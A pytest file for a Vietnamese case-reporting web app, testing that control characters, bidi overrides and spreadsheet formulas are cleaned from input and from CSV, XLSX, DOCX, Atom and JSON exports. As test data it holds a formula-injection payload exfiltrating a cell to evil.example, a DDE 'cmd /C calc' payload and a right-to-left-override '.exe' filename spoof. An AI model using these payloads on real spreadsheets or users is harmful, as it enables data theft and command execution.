"""Clean text at the door, and again at every exit.

The probe: a U+FFFF or U+FFFE in a subject made the XLSX and DOCX reports answer 500, crashed
`presscase report` and made the Atom feed invalid XML, for good (history cannot be edited); a
subject `=HYPERLINK(...)` became a live formula in CSV and XLSX.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from docx import Document
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from engine.cases import commands as service
from engine.cases.clean_text import BIDI_CONTROLS, FORMULA_STARTS, forbidden_in, neutralise_formula, strip_forbidden
from engine.cases.evidence import Upload, check_uploads
from engine.errors import InvalidData
from engine.org import admin
from engine.store.models import Case, CaseEvent, Unit
from tests.support import REPORT, Org, case_in, data_for, fire, load_case
from tests.test_web_fixtures import PNG, field_error, signed_in, text

pytest_plugins = ["tests.test_web_fixtures"]

# Every code point XML 1.0 forbids, by class, and the bidirectional controls.
FORBIDDEN = [chr(c) for c in range(0x00, 0x20) if c not in (0x09, 0x0A, 0x0D)] + ["\ud800", "\udfff", "\ufffe", "\uffff"]
FORBIDDEN += list(BIDI_CONTROLS)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")'
FORMULAS = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_the_forbidden_set_is_exactly_xml_1_0s_plus_bidi_controls() -> None:
    allowed = ["\t", "\n", "\r", " ", "Đ", "\u007f", "\u0085", "\ud7ff", "\ue000", "\ufffd", "\U0001f600", "\u200b"]
    assert all(not forbidden_in(ch) for ch in allowed)
    assert all(forbidden_in(ch) for ch in FORBIDDEN)
    assert strip_forbidden("Trang\u202e X\uffff\x00") == "Trang X"
    assert [neutralise_formula(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert neutralise_formula(-5) == -5 and neutralise_formula("Phong Thổ") == "Phong Thổ"


@pytest.mark.parametrize("ch", FORBIDDEN, ids=[f"U+{ord(c):04X}" for c in FORBIDDEN])
def test_every_forbidden_code_point_is_refused_in_a_subject(org: Org, ch: str) -> None:
    with pytest.raises(InvalidData) as err, org.rt.uow() as uow:
        service.file_report(uow, org.actor("reporter"), "press_violation", {**REPORT, "subject_name": f"Trang{ch}X"})
    assert set(err.value.field_messages("vi")) == {"subject_name"}
    assert f"U+{ord(ch):04X}" in err.value.field_messages("en")["subject_name"]


def test_forbidden_text_is_refused_on_the_form_in_every_text_field(app: Flask, org: Org) -> None:
    w = signed_in(app, "reporter")
    w.get("/reports/new")
    form = {**REPORT, "subject_name": "Trang\uffff", "description": "Tin sai\u202e sự thật", "publication": "x\x01"}
    r = w.post("/reports/new", form)
    assert r.status_code == 422
    for name in ("subject_name", "description", "publication"):
        assert "ký tự không hợp lệ" in (field_error(r, name) or ""), name
    out = case_in(org, "reported")
    a = signed_in(app, "assessor")
    a.get(f"/cases/{out.case_id}/act/assess")
    r = a.post(f"/cases/{out.case_id}/act/assess", {**data_for(org, "assess"), "assessment_note": "ok\ufffe",
                                                     "version": out.version})  # fmt: skip
    assert r.status_code == 422 and "U+FFFE" not in text(r).split("assessment_note")[0][-1:]
    assert "ký tự không hợp lệ" in (field_error(r, "assessment_note") or "")
    assert load_case(org, out.case_id).version == out.version


def test_extension_reason_and_admin_names_are_checked_too(org: Org) -> None:
    out = case_in(org, "assessed")
    with pytest.raises(InvalidData) as err, org.rt.uow() as uow:
        service.extend_deadline(uow, out.case_id, org.actor("supervisor"), 5, "lý do\x00")
    assert "reason" in err.value.field_messages("vi")
    with pytest.raises(InvalidData) as err, org.rt.uow() as uow:
        admin.add_unit(uow, "XA-1", "Xã\u202e Mới", "party_cell", "BTG")
    assert "name" in err.value.field_messages("vi")
    with pytest.raises(InvalidData) as err, org.rt.uow() as uow:
        admin.add_user(uow, "moi", "Người\uffff Mới", "BTG", ["assessor"], "mot-mat-khau-dai", email="a\x01@b.vn")
    assert {"full_name", "email"} <= set(err.value.field_messages("vi"))


def test_file_names_lose_bidi_and_control_characters() -> None:
    [e] = check_uploads([Upload("ảnh\u202egpj.exe\x00", PNG)])
    assert e.filename == "ảnhgpj.png"


# ------------------------------------------------------------------ exits


def _corrupt(org: Org, case_id: int, **facts: str) -> None:
    """Write bad text straight into the database, as data stored before the door checked it would be."""
    with Session(org.rt.engine) as s:
        case = s.get(Case, case_id)
        assert case is not None
        case.facts = {**case.facts, **facts}
        if "subject_name" in facts:
            case.subject = facts["subject_name"]
        for ev in s.scalars(select(CaseEvent).where(CaseEvent.case_id == case_id)):
            changed = {k: v for k, v in facts.items() if k in ev.data}
            if ev.trigger == "handle":
                changed["decision_number"] = "01\x02/QĐ"
            ev.data = {**ev.data, **changed}
        unit = s.scalar(select(Unit).where(Unit.code == "VHTT"))
        assert unit is not None
        unit.name = "Phòng\uffff Văn hóa\u202e"
        s.commit()


BAD = "Trang\uffff \ufffe\x01\x1f\u202eX\u2066"


def test_stored_bad_text_cannot_break_the_exports_or_the_feed(app: Flask, org: Org, tmp_path) -> None:
    out = case_in(org, "published")
    _corrupt(org, out.case_id, subject_name=BAD, public_summary=BAD)
    w = signed_in(app, "supervisor")
    r = w.get("/dashboard/report.xlsx?period=2026")
    assert r.status_code == 200
    rows = list(load_workbook(io.BytesIO(r.data))["Vụ việc"].iter_rows(min_row=2, values_only=True))
    assert rows[0][2] == "Trang X" and rows[0][8] == "01/QĐ"
    r = w.get("/dashboard/report.docx?period=2026")
    cells = [c.text for t in Document(io.BytesIO(r.data)).tables for row in t.rows for c in row.cells]
    assert r.status_code == 200 and "Trang X" in cells  # the case list (the annex) carries the cleaned subject
    r = w.get(f"/dashboard/report.docx?period=2026&layout=state&unit={org.units['VHTT']}")
    assert r.status_code == 200 and "PHÒNG VĂN HÓA" in Document(io.BytesIO(r.data)).tables[0].rows[0].cells[0].text
    r = w.get("/dashboard/report.csv?period=2026")
    assert r.status_code == 200 and not forbidden_in(r.data.decode("utf-8-sig"))
    c = app.test_client()
    r = c.get("/cong-khai/feed.atom")
    assert r.status_code == 200
    ET.fromstring(r.data)  # valid XML
    assert not forbidden_in(r.get_data(as_text=True))
    r = c.get("/cong-khai.json")
    doc = json.loads(r.data)
    assert doc["results"][0]["subject"] == "Trang X" and not forbidden_in(json.dumps(doc, ensure_ascii=False))
    runner = app.test_cli_runner()
    for fmt in ("xlsx", "docx", "csv"):
        path = tmp_path / f"bc.{fmt}"
        res = runner.invoke(args=["report", "--period", "2026", "--format", fmt, "--out", str(path)])
        assert res.exit_code == 0, res.output


def _walk_with_formulas(org: Org) -> int:
    """A case taken to publication with a formula in every free-text field of every step, and a formula unit name."""
    defn = org.rt.registry.latest("press_violation")

    def texts(trigger: str, base: dict[str, Any]) -> dict[str, Any]:
        t = next(t for t in defn.transitions if t.trigger == trigger)
        return {**base, **{f.name: FORMULA for f in t.fields if f.type in ("string", "text")}}

    with org.rt.uow() as uow:
        out = service.file_report(uow, org.actor("reporter"), "press_violation", texts("file", REPORT))
    for trigger, who in [("assess", "assessor"), ("handle", "handler"), ("publish", "publisher")]:
        out = fire(org, out.case_id, trigger, who, texts(trigger, data_for(org, trigger)))
    with Session(org.rt.engine) as s:
        unit = s.scalar(select(Unit).where(Unit.code == "VHTT"))
        assert unit is not None
        unit.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        s.commit()
    return out.case_id


def test_formulas_in_every_free_text_field_stay_text_in_csv_and_xlsx(app: Flask, org: Org) -> None:
    _walk_with_formulas(org)
    w = signed_in(app, "supervisor")
    body = w.get("/dashboard/report.csv?period=2026").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    wb = load_workbook(io.BytesIO(w.get("/dashboard/report.xlsx?period=2026").data))
    seen = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    seen.append(cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
    assert "'" + FORMULA in seen and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
